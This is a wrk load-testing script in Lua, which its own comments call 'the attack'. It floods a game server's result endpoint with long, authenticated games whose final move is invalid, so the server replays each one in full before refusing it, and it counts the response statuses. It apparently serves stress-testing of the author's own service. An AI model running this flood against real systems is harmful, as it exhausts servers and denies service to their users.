-- wrk script: the attack. Each request sends the next flood game (a long real game with a bad
-- last letter, so the server replays all of it and then refuses it), round after round.
-- Counts the answers by status and prints them at the end.
-- Arguments: the LoadPrep flood file.
local threads = {}

function setup(thread)
  table.insert(threads, thread)
end

function init(args)
  games = {}
  for line in io.lines(args[1]) do
    local id, token, moves = line:match("^(%S+) (%S+) (%S*)$")
    table.insert(games, { id = id, token = token, moves = moves })
  end
  next_game = math.random(#games)
  statuses = {}
end

function request()
  local game = games[next_game]
  next_game = next_game % #games + 1
  return wrk.format("POST", "/api/games/" .. game.id .. "/result",
    { ["Content-Type"] = "application/json", ["Authorization"] = "Bearer " .. game.token },
    '{"moves":"' .. game.moves .. '"}')
end

function response(status, headers, body)
  statuses[status] = (statuses[status] or 0) + 1
end

function done(summary, latency, requests)
  local total = {}
  for _, thread in ipairs(threads) do
    for status, count in pairs(thread:get("statuses")) do
      total[status] = (total[status] or 0) + count
    end
  end
  local parts = {}
  for status, count in pairs(total) do table.insert(parts, status .. "=" .. count) end
  table.sort(parts)
  io.write("flood answers: " .. table.concat(parts, " ") .. "\n")
end
